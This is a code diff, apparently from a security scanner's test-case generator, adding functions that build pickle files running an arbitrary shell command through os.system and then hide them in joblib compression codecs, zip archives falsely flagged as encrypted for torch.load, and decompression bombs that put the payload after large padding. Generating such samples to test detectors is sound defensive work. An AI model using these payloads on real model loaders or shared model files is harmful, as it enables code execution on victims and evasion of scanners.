@@ -192,3 +192,95 @@ def unknown_invoked(command: str) -> dict[str, bytes]:
                             _g("builtins", "object"), b"N") + su(command) + b"b."
     )  # fmt: skip
     return {f"invoked_{name}": data for name, data in cases.items()}
+
+
+def _pickle(command: str) -> bytes:
+    return b"\x80\x04" + _g("os", "system") + su(command) + b"\x85R."
+
+
+def lz4_frame(data: bytes, *, compressed: bool = True) -> bytes:
+    """An LZ4 frame (what joblib's lz4 compressor writes) holding ``data`` in one block:
+    literals only when ``compressed``, else a raw block."""
+    header = b"\x04\x22\x4d\x18" + bytes([0x60, 0x70]) + b"\x73"  # independent blocks, 4 MiB
+    if compressed:
+        n = len(data)
+        token = bytes([min(n, 15) << 4]) + (
+            b"\xff" * ((n - 15) // 255) + bytes([(n - 15) % 255]) if n >= 15 else b""
+        )
+        block = token + data
+        size = len(block).to_bytes(4, "little")
+    else:
+        block = data
+        size = (len(data) | 0x80000000).to_bytes(4, "little")
+    return header + size + block + b"\x00\x00\x00\x00"
+
+
+def compressed_joblib(command: str) -> dict[str, bytes]:
+    """Class 5: a joblib file compressed in every codec joblib reads."""
+    import bz2
+    import gzip
+    import lzma
+    import zlib
+
+    payload = _pickle(command)
+    alone = lzma.compress(payload, format=lzma.FORMAT_ALONE)
+    legacy = b"ZF" + hex(len(payload)).encode().ljust(19) + zlib.compress(payload)
+    cases = {
+        "zlib.joblib": zlib.compress(payload),
+        "gzip.joblib": gzip.compress(payload),
+        "bz2.joblib": bz2.compress(payload),
+        "xz.joblib": lzma.compress(payload),
+        "lzma.joblib": alone,
+        "lz4.joblib": lz4_frame(payload),
+        "lz4_raw.joblib": lz4_frame(payload, compressed=False),
+        "model.pkl.z": zlib.compress(payload),
+        "model.pkl.lzma": alone,
+        "model.pkl.lz4": lz4_frame(payload),
+        "legacy_zf.pkl": legacy,
+    }
+    return {f"compressed_{name}": data for name, data in cases.items()}
+
+
+def encryption_flag(command: str) -> dict[str, bytes]:
+    """Class 6: zip members flagged as encrypted over plain data, which torch.load reads."""
+    import io
+    import struct
+    import zipfile
+
+    cases = {}
+    for method_name, method in (("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED)):
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w", compression=method) as archive:
+            archive.writestr("archive/data.pkl", _pickle(command))
+            archive.writestr("archive/version", b"3\n")
+        raw = buffer.getvalue()
+        central = raw.index(b"PK\x01\x02")
+        for where in ("both", "central", "local"):
+            data = bytearray(raw)
+            if where in ("both", "local"):
+                struct.pack_into("<H", data, 6, data[6] | 1)
+            if where in ("both", "central"):
+                struct.pack_into("<H", data, central + 8, data[central + 8] | 1)
+            cases[f"{method_name}_{where}.pt"] = bytes(data)
+    return {f"encflag_{name}": data for name, data in cases.items()}
+
+
+def bombs(command: str, size: int = 64 << 20) -> dict[str, bytes]:
+    """Class 9: decompression bombs whose payload comes after ``size`` bytes of padding."""
+    import gzip
+    import io
+    import zipfile
+    import zlib
+
+    padded = (
+        b"\x80\x04\x8e" + size.to_bytes(8, "little") + bytes(size) + b"0" + _pickle(command)[2:]
+    )
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("archive/data.pkl", padded)
+        archive.writestr("archive/version", b"3\n")
+    return {
+        "bomb_torch.pt": buffer.getvalue(),
+        "bomb_pickle.pkl.gz": gzip.compress(padded, 9),
+        "bomb_joblib.joblib": zlib.compress(padded, 9),
+    }
